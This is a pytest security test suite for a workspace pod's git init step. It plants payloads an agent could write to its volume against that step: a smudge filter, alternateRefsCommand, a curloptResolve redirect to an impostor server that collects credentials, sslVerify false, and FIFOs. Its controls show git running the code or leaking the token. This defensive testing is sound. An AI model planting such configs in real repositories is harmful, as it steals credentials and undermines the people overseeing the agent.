"""What an agent writing to its own volume can plant against the init step, each payload of the security review:
with pull enabled, settings in the clone's worktree config (extensions.worktreeConfig) that make git run code or
send the token elsewhere (a smudge filter with info/attributes, core.alternateRefsCommand with object alternates,
http.curloptResolve with http.sslCAInfo), a URL-scoped `http.<url>.sslVerify false`; with the default config, FIFOs
where the step reads or writes (the write test, an include.path target, the Copilot seed's files) and a huge
auth.json. Each runs the step twice: with dash here, and in the workspace image as the pod runs it (the manifests'
command, user, read-only root, limits and mounts). Where a payload is live, a control shows git itself acting on it.
"""

from __future__ import annotations

import contextlib
import os
import ssl
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from runtime.test_isolation import assert_not_stolen, plant
from runtime.workspace_pod import Pod, Shell, Upstream, git
from support.git_http_server import TlsFiles
from support.pki import make_pki

pytestmark = pytest.mark.timeout(600)

QUICK = 25  # seconds: a start that is not held by a FIFO (the image adds its own start-up)


@pytest.fixture(params=["dash", "image"])
def pod(request: pytest.FixtureRequest, case_dir: Path, shell: Shell, upstream: Upstream, tls_files: TlsFiles) -> Pod:
    image = request.getfixturevalue("workspace_image") if request.param == "image" else None
    token = request.getfixturevalue("git_token")
    return Pod(
        case_dir / "pod", shell=shell, upstream=upstream, ca_file=tls_files.certificate, token=token, image=image
    )


def worktree_config(pod: Pod, text: str) -> Path:
    """Turn on per-worktree config and write the clone's .git/config.worktree, as the agent can."""
    pod.git("config", "extensions.worktreeConfig", "true")
    return pod.write_file(pod.workspace / ".git" / "config.worktree", text)


def assert_not_pulled(pod: Pod, result: Any, head: str, *named: str) -> None:
    assert result.returncode == 0, result.describe()
    assert pod.git("rev-parse", "HEAD") == head, "the step pulled"
    warning = next(line for line in result.stderr.splitlines() if "not pulling" in line)
    for name in named:
        assert name in warning, warning
    assert pod.server.requests() == [], "the step fetched"


def test_a_smudge_filter_in_worktree_config_does_not_run(pod: Pod, git_token: str) -> None:
    pod.boot()
    head = pod.git("rev-parse", "HEAD")
    script, loot, mark = plant(pod, "smudge")
    worktree_config(pod, f'[filter "steal"]\n\tsmudge = {script}\n\tclean = cat\n')
    pod.write_file(pod.workspace / ".git" / "info" / "attributes", "* filter=steal\n")
    pod.upstream.commit({"later.txt": "later\n"}, "Later")
    pod.server.clear_requests()

    result = pod.run(pull="enabled")

    assert_not_pulled(pod, result, head, ".git/config.worktree exists", ".git/info/attributes exists")
    assert "extensions.worktreeconfig is set" in result.stderr
    assert "filter.steal.smudge is set" in result.stderr
    assert_not_stolen(pod, git_token, mark, loot)
    # The control: git itself runs the filter on a checkout in this clone.
    (pod.workspace / "README.md").unlink()
    pod.git("checkout", "--", "README.md")
    assert mark.exists()


def test_an_alternate_refs_command_with_object_alternates_does_not_run(pod: Pod, git_token: str) -> None:
    pod.boot()
    head = pod.git("rev-parse", "HEAD")
    script, loot, mark = plant(pod, "alternate-refs")
    elsewhere = pod.home / "elsewhere.git"
    git("clone", "--quiet", "--bare", str(pod.workspace), str(elsewhere), identity=pod.identity)
    pod.write_file(pod.workspace / ".git" / "objects" / "info" / "alternates", f"{elsewhere / 'objects'}\n")
    worktree_config(pod, f"[core]\n\talternateRefsCommand = {script}\n")
    pod.upstream.commit({"later.txt": "later\n"}, "Later")
    pod.server.clear_requests()

    result = pod.run(pull="enabled")

    assert_not_pulled(pod, result, head, ".git/objects/info/alternates exists", ".git/config.worktree exists")
    assert "core.alternaterefscommand is set" in result.stderr
    assert_not_stolen(pod, git_token, mark, loot)
    # The control: a fetch in this clone asks the command for the alternate's refs.
    pod.git("fetch", "--quiet", str(elsewhere))
    assert mark.exists()


class Impostor:
    """An HTTPS server on 127.0.0.2 with the git server's port and a certificate for its name from another CA: where
    http.curloptResolve sends git. It asks for Basic credentials and records what it is given."""

    def __init__(self, folder: Path, port: int) -> None:
        self.pki = make_pki(folder, "localhost")
        self.authorizations: list[str] = []
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *_: Any) -> None:
                return None

            def do_GET(self) -> None:
                if self.headers.get("authorization"):
                    owner.authorizations.append(str(self.headers["authorization"]))
                self.send_response(401)
                self.send_header("WWW-Authenticate", 'Basic realm="git"')
                self.send_header("Content-Length", "0")
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.2", port), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(self.pki.cert, self.pki.key)
        self.server.socket = context.wrap_socket(self.server.socket, server_side=True)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def impostor(pod: Pod, case_dir: Path) -> Iterator[Impostor]:
    try:
        server = Impostor(case_dir / "impostor", pod.server.port)
    except OSError as exc:  # 127.0.0.2 is loopback on Linux; elsewhere it may not be
        pytest.skip(f"cannot listen on 127.0.0.2:{pod.server.port}: {exc}")
    # The repository by name (the certificate names localhost too), so that curl resolves it.
    pod.repository_url = pod.repository_url.replace("127.0.0.1", "localhost")
    yield server
    server.close()


def fetch_with_the_pods_helper(pod: Pod) -> None:
    """The control: a fetch in the clone with the credential helper the pod wires in, as the agent's would run."""
    env = {"GIT_TOKEN_FILE": str(pod.token_file), "WORKSPACE_GIT_REPOSITORY": pod.repository_url}
    env |= {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "credential.helper", "GIT_CONFIG_VALUE_0": str(pod.helper)}
    with contextlib.suppress(AssertionError):  # the impostor never serves a repository
        pod.git("fetch", "--quiet", pod.repository_url, env=env | {"GIT_TERMINAL_PROMPT": "0"})


def test_a_resolve_override_and_a_ca_on_the_volume_never_get_the_token(pod: Pod, impostor: Impostor) -> None:
    pod.boot()
    head = pod.git("rev-parse", "HEAD")
    ca = pod.write_file(pod.home / "impostor-ca.pem", impostor.pki.ca.read_text())
    port = pod.server.port
    worktree_config(pod, f"[http]\n\tcurloptResolve = localhost:{port}:127.0.0.2\n\tsslCAInfo = {ca}\n")
    pod.upstream.commit({"later.txt": "later\n"}, "Later")
    pod.server.clear_requests()

    result = pod.run(pull="enabled")

    assert_not_pulled(pod, result, head, ".git/config.worktree exists")
    assert "http.curloptresolve is set" in result.stderr and "http.sslcainfo is set" in result.stderr
    assert impostor.authorizations == []
    fetch_with_the_pods_helper(pod)
    assert impostor.authorizations, "the control: git with the helper hands the impostor the token"


def test_a_url_scoped_ssl_verify_false_counts(pod: Pod, impostor: Impostor) -> None:
    """`http.<url>.sslVerify false` outranks the step's command-line `http.sslVerify true` for that URL."""
    pod.boot()
    head = pod.git("rev-parse", "HEAD")
    port = pod.server.port
    url = f"https://localhost:{port}/"
    pod.git("config", f"http.{url}.sslVerify", "false")
    pod.git("config", "http.curloptResolve", f"localhost:{port}:127.0.0.2")
    pod.upstream.commit({"later.txt": "later\n"}, "Later")
    pod.server.clear_requests()

    result = pod.run(pull="enabled")

    assert_not_pulled(pod, result, head, f"http.{url}.sslverify is set")
    assert impostor.authorizations == []
    fetch_with_the_pods_helper(pod)
    assert impostor.authorizations, "the control: the impostor's unknown CA is accepted for that URL"


def _fifo(pod: Pod, path: Path) -> Path:
    pod.make_dir(path.parent)
    os.mkfifo(path)
    pod.identity.own(path)
    return path


def test_a_fifo_at_the_write_test_does_not_hold_the_start(pod: Pod) -> None:
    _fifo(pod, pod.home / ".opencode-workspace-write-test")

    result = pod.run(timeout=120)

    assert result.returncode == 0, result.describe()
    assert result.seconds < QUICK
    assert pod.git("rev-parse", "HEAD") == pod.upstream.head()


def test_a_fifo_as_an_include_target_of_the_clone_config_does_not_hold_the_start(pod: Pod) -> None:
    pod.boot()
    fifo = _fifo(pod, pod.home / "include.fifo")
    pod.git("config", "include.path", str(fifo))
    head = (pod.workspace / ".git" / "HEAD").read_text()

    for pull in ("disabled", "enabled"):
        result = pod.run(pull=pull, timeout=120)
        assert result.returncode == 0, result.describe()
        assert result.seconds < QUICK, result.describe()
        assert "its .git/config includes other files, so git is not run there" in result.stderr
        assert (pod.workspace / ".git" / "HEAD").read_text() == head  # kept as it is, not moved aside
    assert "Copilot auth" in result.stdout  # the rest of the step went on


def test_fifos_where_the_copilot_seed_writes_do_not_hold_the_start(pod: Pod) -> None:
    state = pod.home / ".local" / "state" / "opencode-workspace"
    data = pod.auth_file.parent
    # The names the step used to write to, and the ones it writes to now (the record, the kept copy).
    for path in (state / "copilot-auth.sha256.tmp", state / "copilot-auth.cksum", data / "auth.json.seeding"):
        _fifo(pod, path)
    _fifo(pod, data / "auth.json.before-seed")
    pod.boot()
    pod.write_file(pod.auth_file, '{"github-copilot": {"type": "oauth", "refresh": "gho_changed"}}\n')
    pod.set_copilot_auth('{"github-copilot": {"type": "oauth", "refresh": "gho_renewed"}}\n')

    result = pod.run(timeout=120)

    assert result.returncode == 0, result.describe()
    assert result.seconds < QUICK
    assert "gho_renewed" in pod.auth_file.read_text()
    assert (data / "auth.json.before-seed").is_file()  # the FIFO there was replaced by the kept copy
    assert "gho_changed" in (data / "auth.json.before-seed").read_text()
    assert (state / "copilot-auth.cksum").is_file()
    # A second start finds its record and leaves the login alone.
    assert "has not changed since it was seeded" in pod.boot().stdout


@pytest.mark.parametrize("where", ["auth.json", "Secret"])
def test_a_login_file_over_1_mib_is_refused_before_jq_reads_it(pod: Pod, where: str) -> None:
    pod.boot()
    seeded = pod.auth_file.read_text()
    big = pod.home / "big.json" if where == "Secret" else pod.auth_file
    with big.open("wb") as handle:  # 300 MB, as in the review, but sparse: no disk is used
        handle.truncate(300 * 1024 * 1024)
    pod.identity.own(big)
    pod.set_copilot_auth('{"github-copilot": {"type": "oauth", "refresh": "gho_other"}}\n')
    env: dict[str, str | None] = {"COPILOT_AUTH_FILE": str(big)} if where == "Secret" else {}

    result = pod.run(env=env, timeout=120)

    assert result.returncode == 0, result.describe()
    assert result.seconds < QUICK
    assert "Copilot not seeded" in result.output
    assert "1 MiB" in result.output
    if where == "Secret":
        assert pod.auth_file.read_text() == seeded
    else:
        assert pod.auth_file.stat().st_size == 300 * 1024 * 1024  # left as it is


def test_the_init_container_runs_with_the_manifests_limits(
    case_dir: Path, shell: Shell, upstream: Upstream, tls_files: TlsFiles, request: pytest.FixtureRequest
) -> None:
    """The step in the image gets the init container's CPU and memory limits (a huge file or a stuck git cannot take
    the node's), and starts the workspace under them."""
    image, token = request.getfixturevalue("workspace_image"), request.getfixturevalue("git_token")
    pod = Pod(case_dir / "pod", shell=shell, upstream=upstream, ca_file=tls_files.certificate, token=token, image=image)
    command = pod.image_command(pod.environment())
    assert command[command.index("--memory") + 1] == str(512 * 1024 * 1024)
    assert command[command.index("--cpus") + 1] == "0.5"
    assert pod.run().returncode == 0
